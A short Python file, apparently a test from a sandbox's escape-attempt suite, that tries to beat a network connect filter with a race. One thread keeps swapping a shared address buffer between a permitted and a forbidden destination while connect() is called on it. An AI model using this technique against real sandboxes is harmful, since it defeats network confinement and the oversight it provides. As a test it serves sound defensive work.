"""Change the address while the call is being decided on: the first look must be the only one."""

import ctypes
import socket
import threading
import time

from arms import P, attempt, in4


@attempt
def deed():
    library = ctypes.CDLL(None)
    good, bad = in4(P["granted"]), in4(P["tcp"])
    shared = ctypes.create_string_buffer(good, 16)
    stop = time.monotonic() + 1.5

    def flip():
        while time.monotonic() < stop:
            ctypes.memmove(shared, bad, 16)
            ctypes.memmove(shared, good, 16)

    threading.Thread(target=flip).start()
    waits = False
    while time.monotonic() < stop:
        with socket.socket() as s:
            waits = not waits
            s.setblocking(waits)  # where the granted server's queue is full, half of them go on
            library.connect(s.fileno(), shared, 16)
